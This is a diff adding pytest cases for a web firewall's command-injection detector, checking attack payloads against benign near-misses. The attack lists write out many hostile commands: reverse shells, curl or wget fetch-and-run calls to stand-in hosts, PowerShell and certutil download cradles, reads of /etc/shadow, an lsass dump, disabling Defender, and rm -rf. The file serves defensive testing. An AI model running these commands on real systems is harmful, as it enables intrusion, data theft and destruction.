+BENIGN = requests_for(BENIGN_VALUES + ROUND2_BENIGN + ROUND3_BENIGN) + BENIGN_HEADERS
+
+
+def _label(row: tuple[str, str]) -> str:
+    return f"{row[0]}:{row[1][:60]}"
+
+
+@pytest.mark.parametrize("row", ATTACKS, ids=_label)
+def test_command_injection_is_caught(engine, row):
+    kind, value = row
+    hits = engine.inspect(carry(kind, value))
+    assert verdict(hits) == "attack", hits
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+# Encodings and carriers that the generic carriers above do not produce.
+RAW_ATTACKS = [
+    req("/cgi-bin/status.cgi", headers=[("Referer", "() { :;}; /bin/bash -c \"nc 10.0.0.1 4444 -e /bin/sh\"")]),
+    req("/ping?host=127.0.0.1%26%2359%3Bid"),                                    # HTML entity `&#59;` for `;`
+    req("/ping", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
+        b"host=127.0.0.1&#59;cat /etc/passwd"),                                   # raw entity split by the form parser
+    req("/ping?host=127.0.0.1%250aid"),                                          # double-encoded newline
+    req("/api/diag", "POST", [("Content-Type", "application/xml")],
+        b"<r><h><![CDATA[127.0.0.1; uname -a]]></h></r>"),
+    req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")],
+        (f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg;curl evil.example|sh\"\r\n"
+         f"Content-Type: image/jpeg\r\n\r\nxx\r\n--{_BOUNDARY}--\r\n").encode()),
+    req("/download/x.pdf%3Bwget%20http%3A%2F%2Fe.example%2Fx%20-O%20%2Ftmp%2Fx"),  # URL path segment
+    req("/", headers=[("X-Forwarded-For", "127.0.0.1;$(curl e.example)")]),
+    req("/api", "POST", [("Content-Type", "application/json")], b'{"a":[{"b":{"c":"x\\u003b id"}}]}'),
+    req("/api", "POST", [("Content-Type", "application/json")], b'{"cmd":"\\u0060id\\u0060"}'),
+    req("/?q=%26%2396%3Bid%26%2396%3B"),                                         # backticks as entities
+    req("/?q=%EF%BC%9Bid"),                                                      # fullwidth semicolon (NFKC)
+    req("/?q=127.0.0.1%0Als%09-la"),                                             # newline and tab
+    req("/?file=x%27%3Bid%3B%27"),                                               # closing the app's quote
+]
+
+
+@pytest.mark.parametrize("r", RAW_ATTACKS, ids=lambda r: r.target[:50])
+def test_encoded_and_raw_carriers(engine, r):
+    hits = engine.inspect(r)
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+# Code snippets that another detector flagged in round 1 (sqli, code); all clean now, so the whole verdict is asserted
+# again. A value listed here would only be held to silence from rce.py.
+OTHER_DETECTORS: set[str] = set()
+
+
+@pytest.mark.parametrize("row", BENIGN, ids=_label)
+def test_benign_near_miss_is_clean(engine, row):
+    kind, value = row
+    hits = engine.inspect(carry(kind, value))
+    assert not [h for h in hits if h.rule.startswith("rce:") and h.score >= THRESHOLD], hits
+    if value not in OTHER_DETECTORS:
+        assert verdict(hits) == "clean", hits
+
+
+# --- the tokenizer structure the rules above rest on
+@pytest.mark.parametrize("value,want", [
+    (";c${u}at /etc/passwd", ";cat /etc/passwd"),          # unset braced variable inside a word
+    (";ca$@t x", ";cat x"),                                  # positional parameter inside a word
+    (";a=c;b=at;$a$b /x", ";a=c;b=at;$a$b /x"),              # variables after variables are kept for substitution
+])
+def test_normalize_removes_empty_expansions(value, want):
+    assert rce.normalize(value) == want
+
+
+def test_words_reads_comments_calls_and_fences():
+    assert [w for _, w in rce.words("x; sleep 5 # trailing note")] == ["x", "sleep", "5"]
+    assert rce.words("init(); run") == [("^", "init("), (";", "run")]  # a name touching `(` is a call, not a command
+    assert rce.analyze("```python\nprint(os.getcwd())\n```") is None
+    assert rce._known_command("/b?n/?s") == "ls" and rce._known_command("*/*") is None
+
+
+@pytest.mark.parametrize("value", ["a' ; id ; '", "'||whoami||'", "x' && cat /etc/passwd && '"])
+def test_value_closing_the_applications_quote(value):
+    f = rce.analyze(value)
+    assert f is not None and f.score >= THRESHOLD, f
+
+
+@pytest.mark.parametrize("value", ["It's 5 o'clock; time for tea", "Rock 'n' Roll | Jazz", "O'Brien & Sons; est. 1921"])
+def test_apostrophes_in_prose_are_not_quote_breakouts(value):
+    f = rce.analyze(value)
+    assert f is None or f.score < THRESHOLD, f
+
+
+def test_sets_are_large_and_distinct():
+    assert len({v for _, v in ATTACKS}) >= 150
+    assert len({v for _, v in BENIGN}) >= 100
+
+
+# --- Round 2 (issue #4): one group per attack class of CRS 932xxx (3.3.4 at PL1/PL2 plus the v4 ids), payloads written
+# for this round in varied carriers, never copied from a rule's regression tests. First pass (before the round-2
+# changes to rce.py) the current code caught 75 of the first 86 of these; see the round-2 report for the class table.
+CLASS_ATTACKS: dict[str, list[tuple[str, str]]] = {
+    "932100/932105/932220/932235/932236 unix command after a separator": [
+        ("query", "10.1.1.1 ; getent passwd"), ("form", "a.txt && awk -F: '{print $1}' /etc/passwd"),
+        ("json", "eth0 | lsof -i -P -n"), ("cookie", "en;df -h"), ("xml", "host.local || ip addr show"),
+        ("custom", "a.png && du -ah /root"), ("multipart", "x; lsblk -f"),
+    ],
+    "932230/932250 two- and three-letter commands": [
+        ("query", "1.2.3.4;ps -ef"), ("form", "x|du -sh /var"), ("json", "x&&ip a"), ("custom", "x;pwd;ls"),
+        ("cookie", "x || w"), ("xml", "x; id -Gn"),
+    ],
+    "932150/932260 a command as the whole value": [
+        ("form", "wget http://203.0.113.5/k -O /tmp/k"), ("json", "nc 198.51.100.3 9001 -e /bin/bash"),
+        ("query", "sh -c 'curl e.example|sh'"), ("xml", "uname -a"), ("cookie", "cat /proc/self/environ"),
+    ],
+    "932160/932161 unix shell code and program paths": [
+        ("query", "/usr/bin/env python3 -c 'import os;os.system(\"id\")'"), ("form", "x;/sbin/ifconfig -a"),
+        ("custom", "/bin/busybox telnetd -l /bin/sh -p 9999"), ("json", "exec /bin/rbash"),
+    ],
+    "932110/932115/932370/932380 windows commands": [
+        ("query", "a & whoami /all"), ("form", "x | wmic useraccount get name,sid"), ("json", "x && net1 user"),
+        ("cookie", "x&arp -a"), ("xml", "report.xlsx & tree c:\\ /f"), ("custom", "x | qwinsta"),
+        ("query", "x & sc query state= all"), ("form", "1|nltest /dclist:corp"),
+        ("json", "a & certreq -Post -config http://e.example/ c:\\windows\\win.ini"),
+        ("form", "x & esentutl.exe /y \\\\10.0.0.1\\s\\a.exe /d a.exe /o"), ("query", "x | cmdkey /list"),
+        ("cookie", "x & klist tickets"), ("xml", "x & gpresult /z"), ("custom", "x && driverquery /v"),
+        ("multipart", "x & msdt.exe /id PCWDiagnostic /skip force /param \"IT_BrowseForFile=x\""),
+    ],
+    "932120/932125 powershell cmdlets and aliases": [
+        ("query", "x; Get-LocalUser | Select-Object Name"),
+        ("form", "a | Select-String -Path C:\\inetpub\\*.config -Pattern pass"),
+        ("json", "x; gci -Recurse C:\\Users -Include *.kdbx"),
+        ("cookie", "x;Invoke-WebRequest -Uri http://e.example/a -OutFile a.exe"),
+        ("query", "x;powershell -c \"& (gcm i*x) 'whoami'\""), ("xml", "x | sal y iex; y 'hostname'"),
+        ("custom", "x; Start-Process cmd -ArgumentList '/c whoami'"), ("form", "x; get-process lsass"),
+        ("json", "a | Set-MpPreference -DisableRealtimeMonitoring $true"), ("query", "x;Get-ChildItem Env:"),
+        ("multipart", "x; New-Alias -Name z -Value Invoke-Expression; z 'id'"), ("cookie", "x|Stop-Service WinDefend"),
+        ("xml", "x; Get-CimInstance Win32_Process"), ("form", "Get-WmiObject -Class Win32_UserAccount"),
+    ],
+    "932130/932131 shell expressions": [
+        ("query", "name=$(id -un)"), ("form", "$((1337*7))"), ("json", "x${IFS}-la"), ("cookie", "diff <(ls /) <(ls /tmp)"),
+        ("xml", "x >(sh)"), ("custom", "${PATH%%:*}/sh -c id"), ("query", ";${x:-cat} /etc/passwd"),
+        ("form", ";${u:=id}"),
+    ],
+    "932140 windows FOR/IF": [
+        ("query", "for /l %x in (1,1,5) do ping -n 1 10.0.0.%x"),
+        ("form", "if exist c:\\windows\\win.ini type c:\\windows\\win.ini"),
+        ("json", "for /r c:\\ %f in (*.config) do type %f"), ("cookie", "if defined USERNAME echo %USERNAME%"),
+    ],
+    "932170/932171 shellshock": [
+        ("ua", "() { foo;}; echo; /usr/bin/id"), ("custom", "() { :;}; /bin/sleep 20"), ("query", "() { x;}; curl e.example|sh"),
+        ("cookie", "() {  :; } ; bash -i >& /dev/tcp/10.0.0.1/80 0>&1"),
+    ],
+    "932175 alias invocation": [
+        ("query", ";alias l=id;l"), ("form", "x; alias ll='cat /etc/passwd'; ll"), ("json", "|alias -p"),
+    ],
+    "932200/932205/932206/932207/932240 quoting and globbing evasions": [
+        ("query", ";w\"h\"o\"a\"m\"i"), ("form", ";un'a'me -a"), ("json", ";/b\\in/ca\\t /et\\c/pass\\wd"),
+        ("cookie", ";$u/bin$u/id"), ("xml", ";/us?/b??/i?"), ("custom", ";c''a''t /e''tc/pa''sswd"), ("ua", "x;who\\am\\i"),
+        ("query", ";c``at /etc/passwd"), ("form", ";un``ame -a"),
+    ],
+    "932210 sqlite dot commands": [
+        ("query", "x;\n.shell id"), ("form", "a';.system whoami;--"), ("json", ".shell cat /etc/passwd"),
+    ],
+    "932237/932239 unix commands in User-Agent and Referer": [
+        ("ua", "Mozilla/5.0 ;wget http://e.example/a -O /tmp/a;"), ("referer", "http://x.example/`id`"),
+        ("ua", "curl/7.88 && cat /etc/shadow"),
+    ],
+    "932270/932271 tilde expansion": [
+        ("query", "~+"), ("form", "~-"), ("json", ";cd ~-;ls"), ("cookie", ";ls ~+"), ("xml", "~0"),
+    ],
+    "932280/932281 brace expansion": [
+        ("query", "{,ip,a}"), ("form", ";{uname,-a}"), ("json", "{wget,-qO-,e.example/x}|sh"), ("xml", "x|{id,}"),
+    ],
+    "932330/932331 shell history": [("query", "!-1"), ("form", ";!!"), ("json", "x;!-2;")],
+    "932371 at scheduler": [("query", ";at 2:00 \"rm -rf /var/www\""), ("form", "\nat now + 1 minute -f /tmp/x.sh")],
+}
+# Classes of the 932 file that another detector owns (mail_injection: 932300-932321; upload: 932180); asserted here
+# only as an attack verdict. Gap left to its owner: a bare POP3 `LIST`/`STAT` after CRLF is not flagged.
+OTHER_CLASS_ATTACKS: list[tuple[str, str]] = [
+    ("form", "bob@example.com\r\nRCPT TO:<victim@example.org>"), ("query", "x\r\nMAIL FROM:<a@e.example>\r\nDATA"),
+    ("json", "subject\r\nEHLO evil.example\r\n"), ("query", "INBOX\r\na1 LOGOUT"), ("form", "x\r\nA002 FETCH 1:* (BODY[])"),
+    ("json", "Sent\r\nx3 DELETE INBOX"), ("query", "x\r\nRETR 1"), ("form", "user\r\nDELE 3"),
+    ("upload", ".htaccess"), ("upload", "web.config"), ("upload", ".user.ini"),
+]
+CLASS_ROWS = [row for rows in CLASS_ATTACKS.values() for row in rows]
+
+# Benign near-misses of the round-2 rules, and the false positives other helpers found in rce.py (fixed this round).
+CLASS_BENIGN: list[tuple[str, str]] = [
+    # PowerShell's Verb-Noun shape in English compounds, PowerShell aliases and LOLBAS names as words
+    ("form", "get-together | potluck"), ("query", "Home | Add-Ons | Help"), ("query", "Sign-In | Register"),
+    ("form", "check-in; check-out"), ("form", "Set-up guide; FAQ"), ("query", "x | Get-Started"),
+    ("form", "pop-up shop; start-up fair"), ("query", "Write-Off | Tax"), ("form", "Get-Well cards & gifts"),
+    ("form", "lock-in rate; no fees"), ("query", "how to use Get-ChildItem"), ("query", "Select-Object examples"),
+    ("form", "Sal; Tony; Maria"), ("query", "sal mineo movies"), ("query", "GCI Alaska; internet plans"),
+    ("form", "Christmas tree | ornaments"), ("form", "family tree; ancestry"), ("query", "hh:mm:ss format"),
+    ("query", "Replace all; Undo"), ("form", "Expand | Collapse"),
+    # sub-command words, abbreviations and schedules
+    ("query", "my ip; ip address lookup"), ("query", "intellectual property; ip rights"), ("form", "SC Johnson; SC Freiburg"),
+    ("query", "Columbia, SC | Charleston, SC"), ("form", "Mexico City | DF"), ("form", "du pain; du vin"),
+    ("form", "Lunch; at noon"), ("form", "meet at 5pm; at 6pm"), ("form", "arrive; at 10:30 we leave"),
+    ("form", "Top Chef; chef knife set"), ("form", "head chef; sous chef"), ("query", "chef de partie"),
+    ("form", "fish & chips; salt & vinegar"), ("query", "AA batteries; AAA"), ("query", "Helm & rudder; knife & fork"),
+    ("query", "vault door; safe"),
+    # tilde approximations, default-value placeholders, plain code
+    ("form", "~5"), ("form", "~10"), ("query", "~2 hours"), ("json", "~100"),
+    ("form", "Use ${PORT:-8080} in docker compose"), ("form", "image: nginx:${NGINX_VERSION:-latest}"),
+    ("json", "${DB_HOST:-localhost}:5432"), ("form", "${REDIS_URL:=redis://cache:6379}"),
+    ("query", "<T>(x: T) => x"), ("query", "const id = <T,>(a: T) => a"), ("form", "`code` and ``more code``"),
+    ("form", "Use ``foo`bar`` for a literal backtick"),
+    ("form", "I'd say -alert- is overused"), ("form", "it's \"alert\" status; confirm (yes) to proceed"),
+    ("form", "We'd ps: see attached"), ("form", "she'd cut -- no, trim -- the hedge"),
+    ("query", "php file_get_contents timeout"), ("query", "python __init__ method"), ("query", "node child_process tutorial"),
+    ("query", "ruby attr_accessor example"), ("query", "php str_replace array"),
+    ("form", "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" alt=\"dot\">"),
+    ("query", "url(data:image/png;base64,abc)"), ("form", "background: url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) no-repeat"),
+    ("form", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' width=1>"),
+]
+
+
+def _carry2(kind: str, v: str):
+    if kind == "upload":
+        body = (f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{v}\"\r\n"
+                f"Content-Type: text/plain\r\n\r\nxx\r\n--{_BOUNDARY}--\r\n").encode()
+        return req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")], body)
+    return carry(kind, v)
+
+
+@pytest.mark.parametrize("row", CLASS_ROWS, ids=_label)
+def test_crs_class_attack_is_caught(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", OTHER_CLASS_ATTACKS, ids=_label)
+def test_crs_class_owned_elsewhere_is_an_attack(engine, row):
+    assert verdict(engine.inspect(_carry2(*row))) == "attack"
+
+
+@pytest.mark.parametrize("row", CLASS_BENIGN, ids=_label)
+def test_crs_class_near_miss_is_clean(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert verdict(hits) == "clean", hits
+
+
+@pytest.mark.parametrize("value,clean", [("~0", False), ("~+", False), ("~-", False), ("~5", True), ("~1", True),
+                                         ("~42", True)])
+def test_tilde_forms_that_expand_in_a_fresh_shell(value, clean):
+    # ~0, ~+, ~- expand in every shell; ~N (N >= 1) needs a directory stack a fresh shell does not have
+    f = rce.analyze(value)
+    assert (f is None or f.score < THRESHOLD) == clean, f
+
+
+def test_round2_sets_are_distinct():
+    assert len(set(CLASS_ROWS)) == len(CLASS_ROWS) >= 90
+    assert len(set(CLASS_BENIGN)) == len(CLASS_BENIGN) >= 60
+    assert not set(CLASS_BENIGN) & set(BENIGN)
+
+
+# Round 2, second batch: programs from GTFOBins and LOLBAS that the lists did not know yet, written after the class
+# fixes above and measured once before the vocabulary change: 21 of these 47 were caught, 0 of the 30 benign flagged.
+GTFO_LOLBAS_ATTACKS: list[tuple[str, str]] = [
+    ('form', ';busctl --user set-property a b c d'), ('json', 'a && dmidecode -t system'),
+    ('cookie', 'x;exiftool -a /etc/passwd'), ('xml', 'x | cpan -e \'system("id")\''),
+    ('custom', "x; debugfs -R 'cat /etc/shadow' /dev/sda1"), ('multipart', 'x; ldconfig -p'),
+    ('query', ";screen -dmS x bash -c 'id>/tmp/o'"), ('form', 'x && script -q -c id /dev/null'),
+    ('json', "x; julia -e 'run(`id`)'"), ('cookie', 'x;ghc -e \'System.Process.callCommand "id"\''),
+    ('xml', "x; vi -c ':!id' -c ':q'"), ('custom', 'x| pandoc -o /tmp/x /etc/passwd'),
+    ('query', 'x; shuf -z -o /etc/cron.d/x /tmp/x'), ('form', 'x; snap install evil.snap --dangerous --devmode'),
+    ('json', 'x; timedatectl list-timezones'), ('cookie', 'x; valgrind /bin/sh'), ('xml', ';virsh list --all'),
+    ('query', ';ssh-keyscan 10.0.0.5'), ('form', "x; man -P 'sh -c id' man"),
+    ('json', 'x; update-alternatives --list java'), ('custom', 'x; restic backup /etc'),
+    ('multipart', 'x && torify curl http://e.onion/x'), ('query', '|neofetch'), ('form', 'x;rlogin 10.0.0.5 -l root'),
+    ('json', ';xdotool type id'), ('cookie', 'x; ksu -e /bin/sh'), ('xml', '; yash -c id'),
+    ('query', 'x; pdflatex --shell-escape x.tex'), ('form', 'x; loginctl list-sessions'),
+    ('json', 'x; systemd-resolve --status'), ('query', ';lwp-download http://e.example/x /tmp/x'),
+    ('form', 'x; fping -g 10.0.0.0/24'), ('json', 'x;socat -u tcp-listen:4444 file:/etc/passwd'),
+    ('cookie', 'x;openssl enc -d -base64 -in /tmp/x -out /tmp/y'),
+    ('xml', 'x; mosquitto_pub -h e.example -t t -f /etc/passwd'),
+    ('query', 'x & extrac32 /Y /C \\\\10.0.0.1\\s\\a.exe c:\\a.exe'), ('form', 'x & makecab c:\\a.txt c:\\a.cab'),
+    ('json', 'x & ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q'),
+    ('cookie', 'x & wbadmin delete catalog -quiet'), ('xml', 'x | auditpol /get /category:*'),
+    ('custom', 'x & nbtstat -A 10.0.0.5'), ('query', 'x & getmac /v'), ('form', 'x & openfiles /query'),
+    ('json', 'x & secedit /export /cfg c:\\x.inf'), ('cookie', 'x & powercfg /list'),
+    ('xml', 'x && psexec \\\\10.0.0.5 -s cmd'), ('custom', 'x & procdump -ma lsass.exe l.dmp'),
+]
+# Same words as English (`screen protector`, `man of steel`, `Scarlett Jo`), 2-letter abbreviations and markup.
+GTFO_LOLBAS_BENIGN: list[tuple[str, str]] = [
+    ('query', 'git gud'), ('form', 'Scarlett Johansson; Scarlett Jo'), ('query', 'screen protector | iphone 15'),
+    ('form', 'movie script; storyboard'), ('query', 'man of steel'), ('form', 'Man | Woman | Kids'),
+    ('query', 'snap fasteners; buttons'), ('form', 'task list; to-do'), ('query', 'view cart | checkout'),
+    ('form', 'fish tacos | shrimp'), ('query', 'red dress; blue shoes'), ('form', 'look book | spring'),
+    ('query', 'julia roberts movies'), ('form', 'tic tac toe | games'), ('query', 'tex mex near me'),
+    ('form', 'pg 13 movies; rated R'), ('query', 'hd tv | 4k tv'), ('form', 'eb games; gamestop'),
+    ('query', 'latex gloves; nitrile'), ('form', 'socket wrench set | 3/8'), ('query', 'dialog box | modal'),
+    ('form', 'highlight reel; top plays'), ('query', 'cancel order | refund'), ('form', 'crash course; biology'),
+    ('query', 'date night | dinner'), ('form', 'pic of the day; photo'), ('query', 'vi editor tutorial'),
+    ('form', "joe's pizza; joe's deli"), ('query', 'sash window repair'), ('query', 'posh spice | spice girls'),
+    ("form", "<ul><li>Fast shipping</li><li>Free returns</li></ul>"), ("form", "<p>&copy; 2024 Example Ltd.</p>"),
+    ("query", "{red,green,blue}"), ("query", "git log --oneline"), ("form", "|PG| Summer Sale"),
+    ("form", "<dialog open>Saved!</dialog>"), ("form", "VI. Conclusion; VII. References"),
+]
+
+
+@pytest.mark.parametrize("row", GTFO_LOLBAS_ATTACKS, ids=_label)
+def test_gtfobins_and_lolbas_programs_are_caught(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", GTFO_LOLBAS_BENIGN, ids=_label)
+def test_program_names_as_words_are_clean(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert verdict(hits) == "clean", hits
+
+
+# Round 2, third batch: shapes of public PoCs (IoT loaders, argument injection into a wrapped program, options that run
+# commands, newline-only injection, Windows one-liners). Measured once before the fixes: 24 of 30 caught, and 1 of 22
+# benign flagged (`Shopping list:\ncurl cream\nwget? …`, a newline-separated list whose item is a tool name: left as is,
+# the shape of newline injection).
+POC_ATTACKS: list[tuple[str, str]] = [
+    ('form', '`cd /tmp; wget http://198.51.100.2/m.sh; chmod 777 m.sh; sh m.sh`'),
+    ('query', '$(wget${IFS}http://198.51.100.2/bins/x.arm7${IFS}-O${IFS}/var/tmp/x;chmod${IFS}+x${IFS}/var/tmp/x;/var/tmp/x)'),
+    ('form', '0.0.0.0;cd /var/tmp;tftp -g -r mips 198.51.100.2;chmod 777 mips;./mips'),
+    ('json', '&&busybox wget http://198.51.100.2/i -O- >/tmp/i;sh /tmp/i'),
+    ('xml', '`/bin/busybox wget -g 198.51.100.2 -l /tmp/b -r /b`'),
+    ('query', '1.1.1.1%26%26curl%20-s%20http://198.51.100.2/a.sh%7Csh'), ('json', '-c id'),
+    ('form', '--output=/var/www/html/s.php'), ('query', '-oProxyCommand=curl e.example|sh'),
+    ('form', 'x --checkpoint=1 --checkpoint-action=exec=sh /tmp/x'), ('json', '-e \'system("id")\''),
+    ('query', '--use-compress-program=sh -c id'), ('form', '-exec sh -c id ;'),
+    ('query', ";ssh -o ProxyCommand='nc e.example 22' x"), ('form', "x; git -c core.sshCommand='sh -c id' fetch"),
+    ('json', "x; rsync -e 'sh -c id' a:b c"), ('cookie', "x;tar -xf a.tar --to-command='sh -c id'"),
+    ('form', 'report\ncurl http://e.example/$(whoami)'), ('json', 'a.pdf\r\nwget -qO- e.example/x|sh'),
+    ('xml_attr', 'x\nping -c 3 e.example'), ('multipart', 'x\n/usr/bin/id\n'),
+    ('query', 'x" & powershell -nop -c "iwr e.example/a.ps1|iex" & "'), ('form', "x' | cmd /c 'whoami"),
+    ('json', 'x & start /b cmd /c "certutil -urlcache -f http://e.example/a a.exe"'),
+    ('cookie', 'x & rundll32 \\\\10.0.0.1\\s\\a.dll,Entry'), ('custom', 'x | powershell -EncodedCommand aQBkAA=='),
+    ('query', 'x & regsvr32 /u /n /s /i:http://e.example/a.sct scrobj.dll'), ('query', 'user-$(id -u)@e.example'),
+    ('form', 'name=`uname`'), ('json', '{"a":"$(cat /etc/hostname)"}'),
+]
+POC_BENIGN: list[tuple[str, str]] = [
+    ('form', '-c is the compile flag'), ('query', '--output flag meaning'), ('json', '-e'), ('form', '-exec'),
+    ('query', 'ProxyCommand example ssh config'), ('form', 'git config core.pager less'),
+    ('form', 'line one\nline two\nline three'), ('json', 'Dear team,\r\nplease ping me at 3pm.\r\nThanks'),
+    ('query', '--verbose'), ('form', '-- the end --'), ('query', 'price -10% off'), ('form', 'a - b - c'),
+    ('form', 'x -y plot'), ('query', 'cmd + c to copy'), ('form', 'start /b explained'),
+    ('query', 'user-123@example.com'), ('form', 'name=John'), ('json', '{"a":"b"}'),
+    ('form', 'Call me: +1 555 0100 -- ext 7'), ('form', 'Step 1\nping the server\nStep 2\nreboot the router'),
+    ("form", "-c copy the text"), ("query", "-o output.txt"), ("form", "--color=auto"), ("json", "-c 5"),
+]
+
+
+@pytest.mark.parametrize("row", POC_ATTACKS, ids=_label)
+def test_public_poc_shapes_are_caught(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", POC_BENIGN, ids=_label)
+def test_option_and_multiline_near_misses_are_clean(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert verdict(hits) == "clean", hits
